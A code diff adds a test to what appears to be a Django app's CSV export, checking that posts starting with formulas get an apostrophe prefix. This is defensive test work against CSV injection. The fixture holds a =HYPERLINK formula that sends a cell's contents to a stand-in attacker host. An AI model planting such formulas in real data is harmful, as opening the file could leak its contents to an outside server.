@@ -110,6 +110,15 @@ def test_the_csv_export_has_every_post_of_this_persona_only(owner_client, person
     assert rows[1][4] == "7"
 
 
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(owner_client, persona):
+    PostFactory(persona=persona, text='=HYPERLINK("http://evil.example/?d="&A1,"Click")')
+    PostFactory(persona=persona, text="@SUM(1+1)")
+    answer = owner_client.get(reverse("analytics_export"))
+    rows = list(csv.reader(io.StringIO(b"".join(answer.streaming_content).decode())))
+    texts = sorted(row[1] for row in rows[1:])
+    assert texts == ['\'=HYPERLINK("http://evil.example/?d="&A1,"Click")', "'@SUM(1+1)"]
+
+
 def test_the_workspace_page_sums_up_each_persona(owner_client, persona, workspace):
     other = PersonaFactory(workspace=workspace, name="Second voice")
     yesterday = datetime.now(UTC) - timedelta(days=1)
